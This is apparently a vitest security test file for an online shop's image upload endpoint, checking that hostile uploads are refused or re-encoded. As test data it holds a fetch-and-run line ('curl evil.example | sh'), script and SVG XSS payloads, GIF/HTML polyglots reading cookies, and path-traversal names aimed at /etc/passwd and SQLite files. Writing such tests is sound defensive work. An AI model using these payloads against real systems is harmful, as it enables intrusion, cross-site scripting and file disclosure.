import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import type { UploadResult } from '@shop/contracts';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openTestShop, type SignedInUser, signInAdmin, type TestShop } from '../../test-support/test-shop';

let t: TestShop;
let admin: SignedInUser;

beforeAll(async () => {
  t = await openTestShop();
  admin = await signInAdmin(t);
});
afterAll(() => t.close());

function form(bytes: Uint8Array | string, name: string, type: string): FormData {
  const body = new FormData();
  body.append('image', new File([bytes], name, { type }));
  return body;
}

const upload = (body: FormData) =>
  t.request<UploadResult>('POST', '/api/upload', { token: admin.token, body });

/** Every file under DATA_DIR, relative to it. */
function filesIn(dir: string, root = dir): string[] {
  return readdirSync(dir, { withFileTypes: true }).flatMap((entry) =>
    entry.isDirectory() ? filesIn(join(dir, entry.name), root) : [relative(root, join(dir, entry.name))],
  );
}

const tinyGif = () =>
  sharp({ create: { width: 4, height: 4, channels: 3, background: '#f00' } })
    .gif()
    .toBuffer();

describe('hostile uploads', () => {
  it('refuses a script renamed to .png, an SVG with a script and a GIF-headed HTML polyglot with 415', async () => {
    const attacks = [
      form('#!/bin/sh\ncurl evil.example | sh\n', 'innocent.png', 'image/png'),
      form('<script>fetch("/api/admin/users")</script>', 'x.png', 'image/png'),
      form(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
        'logo.svg',
        'image/svg+xml',
      ),
      form('GIF89a/*<html><script>alert(document.cookie)</script></html>*/=1;', 'poly.gif', 'image/gif'),
    ];
    for (const body of attacks) {
      const response = await upload(body);
      expect(response.status).toBe(415);
      expect(response.body).toMatchObject({ code: 'UNSUPPORTED_MEDIA_TYPE' });
    }
  });

  it('re-encodes a real GIF carrying HTML after its end, so no script survives into what is served', async () => {
    const polyglot = Buffer.concat([await tinyGif(), Buffer.from('<html><script>alert(1)</script></html>')]);
    const response = await upload(form(polyglot, 'poly.gif', 'image/gif'));
    if (response.status === 201) {
      const stored = readFileSync(join(t.deps.uploadsDir, response.body.url.slice('/uploads/'.length)));
      expect(stored.toString('latin1')).not.toContain('<script');
      const served = await t.request('GET', response.body.url);
      expect(served.headers.get('content-type')).toBe('image/webp');
      expect(served.headers.get('x-content-type-options')).toBe('nosniff');
    } else {
      expect([400, 415]).toContain(response.status);
    }
  });

  it('refuses a file over 5 MB with 413', async () => {
    const big = new Uint8Array(5 * 1024 * 1024 + 10);
    big.set(await tinyGif());
    const response = await upload(form(big, 'big.gif', 'image/gif'));
    expect(response.status).toBe(413);
    expect(response.body).toMatchObject({ code: 'PAYLOAD_TOO_LARGE' });
  });

  it('ignores the client file name: ../ names write nothing outside DATA_DIR/uploads', async () => {
    const before = filesIn(t.dataDir);
    for (const name of [
      '../../evil.png',
      '..\\..\\evil.png',
      '../events.sqlite',
      '/etc/passwd',
      '%2e%2e%2fx.png',
    ]) {
      const response = await upload(form(await tinyGif(), name, 'image/gif'));
      expect(response.status).toBe(201);
      expect(response.body.url).toMatch(/^\/uploads\/[0-9a-f]{32}\.webp$/);
    }
    const added = filesIn(t.dataDir).filter((f) => !before.includes(f));
    expect(added).toHaveLength(10);
    for (const file of added) expect(file).toMatch(/^uploads\/[0-9a-f]{32}(-thumb)?\.webp$/);
    // Where each name would have landed had it been used as a path.
    for (const escaped of ['../../evil.png', '../evil.png', '../../../evil.png']) {
      expect(existsSync(join(t.deps.uploadsDir, escaped))).toBe(false);
    }
  });

  it('serves nothing from outside the uploads folder through /uploads', async () => {
    for (const path of [
      '/uploads/../events.sqlite',
      '/uploads/%2e%2e/events.sqlite',
      '/uploads/..%2fevents.sqlite',
      '/uploads/%2e%2e%2fread-models.sqlite',
    ]) {
      const response = await t.request('GET', path);
      expect(response.status).not.toBe(200);
      expect(typeof response.body === 'string' ? response.body : '').not.toContain('SQLite format');
    }
  });
});
